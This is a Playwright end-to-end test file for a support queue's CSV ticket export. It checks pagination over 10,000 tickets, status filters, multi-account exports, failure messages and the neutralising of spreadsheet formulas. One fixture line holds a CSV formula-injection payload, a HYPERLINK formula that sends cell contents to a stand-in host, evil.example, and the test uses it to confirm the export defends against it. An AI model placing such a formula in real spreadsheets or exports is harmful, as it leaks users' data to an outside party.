import { z } from "zod";
import { expect, storageStateFor, test, uniqueTag } from "../fixtures";
import type { EmulatorAdmin, EmulatorTicket } from "../fixtures/emulator-admin";
import { accountToken } from "../fixtures/session-store";
import { shownRequestID } from "../support/close-dialog";
import { journal, journalMark, requestIDsAnswered } from "../support/journal";
import { merchantWithTickets } from "../support/open-counts";
import { moovPaths, paths } from "../support/paths";
import { signIn } from "../support/sign-in-page";
import { cell, ExportControl, exportHeader, isoUTC } from "./export-control";

/**
 * Export CSV, as an agent uses it: the file the browser saves, read with the
 * tests' own CSV reader and held against what the emulator (Moov) lists.
 *
 * The large accounts are fresh merchants of Harbor filled in one admin call.
 * Every Harbor partner's view (in parallel tests too) reads them, so their
 * newest 30 tickets are open and the rest closed: those views then need one
 * short page of them (the "open" filter finds a page's worth at once, the
 * counts read open tickets only), never the 10,000.
 */
const hostileTitles = {
  quotedLines: 'Refund, "partial", then\nanother line, with, commas',
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  plus: "+1 (555) 0100 called",
  minus: "-2 refunds pending",
  at: "@SUM(A1:A9)",
};

/** Every ticket of the account the emulator lists for a query, page by page at its largest page. */
async function emulatorTickets(
  emulator: EmulatorAdmin,
  accountID: string,
  query: Record<string, string> = {},
): Promise<EmulatorTicket[]> {
  const tickets: EmulatorTicket[] = [];
  let cursor: string | undefined;
  do {
    const page = await emulator.listTickets(accountID, {
      ...query,
      count: "1000",
      ...(cursor ? { cursor } : {}),
    });
    tickets.push(...page.items);
    cursor = page.nextPage?.cursor;
  } while (cursor);
  return tickets;
}

/** A fresh Harbor merchant with `closed` closed tickets (the titles on the oldest) and 30 newer open ones. */
async function largeMerchant(emulator: EmulatorAdmin, closed: number, titles: string[] = []) {
  const merchant = await emulator.createAccount({
    displayName: `Outfitters, "Large" ${uniqueTag("export")}`,
    connectedTo: "5b0f8c6e-2d1a-4c3e-9f7a-000000000001",
  });
  await emulator.bulkTickets(merchant.accountID, { count: closed, status: "closed", titles });
  await emulator.bulkTickets(merchant.accountID, { count: 30, status: "new" });
  return merchant;
}

const journalQuery = z.object({ query: z.record(z.string(), z.string()).default({}) });

test.describe("the Harbor partner", () => {
  test.use({ storageState: storageStateFor("partner-harbor") });

  test("exports all 10,000 tickets of an account: the header, every row with its account, hostile titles intact, formulas neutralised, UTC times", async ({
    page,
    emulator,
  }) => {
    test.setTimeout(120_000);
    const merchant = await largeMerchant(emulator, 9_970, Object.values(hostileTitles));
    const expected = await emulatorTickets(emulator, merchant.accountID);
    expect(expected).toHaveLength(10_000);

    await page.goto(paths.queue(merchant.accountID, "?status=all"));
    const since = journalMark();
    const control = new ExportControl(page);
    const file = await control.download();
    await expect(control.status()).toHaveText(`Exported 10,000 tickets to ${file.filename}.`);

    expect(file.filename).toMatch(
      /^tickets-outfitters-large-export-[a-z0-9-]+-all-\d{4}-\d{2}-\d{2}\.csv$/,
    );
    expect(file.header).toEqual([...exportHeader]);
    expect(file.rows).toHaveLength(expected.length);
    // Newest first, every ticket once, as Moov lists them.
    expect(file.rows.map((row) => cell(row, "Ticket ID"))).toEqual(
      expected.map((ticket) => ticket.ticketID),
    );
    // Checked over every row at once: one expect per cell would be 60,000 steps.
    const rowsWhere = (wrong: (row: string[]) => boolean) =>
      file.rows.filter(wrong).map((row) => cell(row, "Number"));
    expect(rowsWhere((row) => cell(row, "Account") !== merchant.displayName)).toEqual([]);
    expect(rowsWhere((row) => cell(row, "Account ID") !== merchant.accountID)).toEqual([]);
    const times = ["Created (UTC)", "Updated (UTC)", "Latest message (UTC)"] as const;
    expect(rowsWhere((row) => times.some((column) => !isoUTC.test(cell(row, column))))).toEqual([]);
    const closedTime = (row: string[]) => cell(row, "Closed (UTC)");
    expect(
      rowsWhere((row) =>
        cell(row, "Status") === "closed" ? !isoUTC.test(closedTime(row)) : closedTime(row) !== "",
      ),
    ).toEqual([]);
    expect(file.rows.filter((row) => cell(row, "Status") === "closed")).toHaveLength(9_970);
    const byNumber = new Map(file.rows.map((row) => [cell(row, "Number"), row]));
    const titleOf = (number: number) => cell(byNumber.get(String(number)) ?? [], "Title");
    // The bulk call gave its titles to the oldest tickets, numbers 1 to 5.
    expect(titleOf(1)).toBe(hostileTitles.quotedLines);
    expect(file.text).toContain('"Refund, ""partial"", then\nanother line, with, commas"');
    expect(titleOf(2)).toBe(`'${hostileTitles.hyperlink}`);
    expect(file.text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    expect(titleOf(3)).toBe(`'${hostileTitles.plus}`);
    expect(titleOf(4)).toBe(`'${hostileTitles.minus}`);
    expect(titleOf(5)).toBe(`'${hostileTitles.at}`);
    expect(file.rows.filter((row) => /^[=+\-@]/.test(cell(row, "Title")))).toEqual([]);

    // Read page by page at Moov's largest page: ten calls, each 1,000 tickets.
    const exportCalls = (
      await journal(emulator, { since, method: "GET", path: moovPaths.tickets(merchant.accountID) })
    ).filter((entry) => {
      const { query } = journalQuery.parse(entry);
      return query.count === "1000" && query.status === undefined;
    });
    expect(exportCalls).toHaveLength(10);
  });

  test("an export of a status filter holds exactly the tickets Moov lists for that status", async ({
    page,
    emulator,
  }) => {
    const { merchant } = await merchantWithTickets(emulator, {
      new: 2,
      inProgress: 1,
      onHold: 3,
      closed: 2,
    });
    const onHold = await emulatorTickets(emulator, merchant.accountID, { status: "on-hold" });
    expect(onHold).toHaveLength(3);

    await page.goto(paths.queue(merchant.accountID, "?status=on-hold"));
    const file = await new ExportControl(page).download();
    expect(file.filename).toMatch(/-on-hold-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(file.rows.map((row) => cell(row, "Ticket ID")).sort()).toEqual(
      onHold.map((ticket) => ticket.ticketID).sort(),
    );
    expect(file.rows.map((row) => cell(row, "Status"))).toEqual(["on-hold", "on-hold", "on-hold"]);
  });

  test("an export of Waiting longest under All holds the open tickets that view shows", async ({
    page,
    emulator,
  }) => {
    const { merchant } = await merchantWithTickets(emulator, {
      new: 1,
      inProgress: 1,
      onHold: 1,
      closed: 2,
    });
    const open = (await emulatorTickets(emulator, merchant.accountID)).filter(
      (ticket) => ticket.status !== "closed",
    );
    expect(open).toHaveLength(3);

    await page.goto(paths.queue(merchant.accountID, "?status=all&sort=waiting"));
    const file = await new ExportControl(page).download();
    expect(file.rows.map((row) => cell(row, "Ticket ID")).sort()).toEqual(
      open.map((ticket) => ticket.ticketID).sort(),
    );
  });

  test("the all-accounts export holds the open tickets of every chosen account, newest first, each row naming its account", async ({
    page,
    emulator,
  }) => {
    const first = await merchantWithTickets(emulator, {
      new: 2,
      inProgress: 1,
      onHold: 0,
      closed: 2,
    });
    const second = await merchantWithTickets(emulator, {
      new: 1,
      inProgress: 0,
      onHold: 1,
      closed: 1,
    });
    const accounts = [first.merchant, second.merchant];
    // Opening a new merchant's queue once makes the signed-in session know it.
    for (const account of accounts) await page.goto(paths.queue(account.accountID));
    const open = (
      await Promise.all(accounts.map((account) => emulatorTickets(emulator, account.accountID)))
    )
      .flat()
      .filter((ticket) => ticket.status !== "closed");
    expect(open).toHaveLength(5);

    const chosen = new URLSearchParams(accounts.map((account) => ["account", account.accountID]));
    await page.goto(paths.allTickets(`?${chosen}`));
    await expect(page.getByRole("status").filter({ hasText: /answered/ })).toBeAttached();
    const file = await new ExportControl(page).download();
    expect(file.filename).toMatch(/^tickets-2-accounts-open-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(file.rows.map((row) => cell(row, "Ticket ID")).sort()).toEqual(
      open.map((ticket) => ticket.ticketID).sort(),
    );
    const names = new Map(accounts.map((account) => [account.accountID, account.displayName]));
    for (const row of file.rows) {
      expect(cell(row, "Account")).toBe(names.get(cell(row, "Account ID")));
    }
    const created = file.rows.map((row) => Date.parse(cell(row, "Created (UTC)")));
    expect(created).toEqual([...created].sort((a, b) => b - a));
  });
});

test.describe("an export that fails part-way", () => {
  test("says the file stopped early, with Moov's reason and request ID, and saves nothing", async ({
    page,
    emulator,
  }) => {
    test.setTimeout(90_000);
    const merchant = await largeMerchant(emulator, 1_000);
    // A session of this test's own, so a fault limited to its token touches no other test.
    await signIn(page, "partner-harbor");
    await page.goto(paths.queue(merchant.accountID, "?status=all"));
    const path = moovPaths.tickets(merchant.accountID);
    const fault = await emulator.addFault({
      method: "GET",
      path,
      status: 503,
      // The first page (no cursor) goes through; every page after it fails.
      query: { cursor: "*" },
      bearerToken: await accountToken(page.context(), merchant.accountID),
    });
    const since = journalMark();
    let downloads = 0;
    page.on("download", () => {
      downloads += 1;
    });
    try {
      const control = new ExportControl(page);
      await control.button().click();
      const failure = control.failure();
      await expect(failure).toContainText(
        "The export stopped after 1,000 tickets. Nothing was saved.",
      );
      await expect(failure).toContainText("Moov is temporarily unavailable.");
      expect(
        await requestIDsAnswered(emulator, { since, method: "GET", path, status: 503 }),
      ).toContain(await shownRequestID(failure).textContent());
      await expect(control.button()).not.toHaveAttribute("aria-disabled");
      expect(downloads).toBe(0);
    } finally {
      await emulator.removeFault(fault);
    }
  });
});
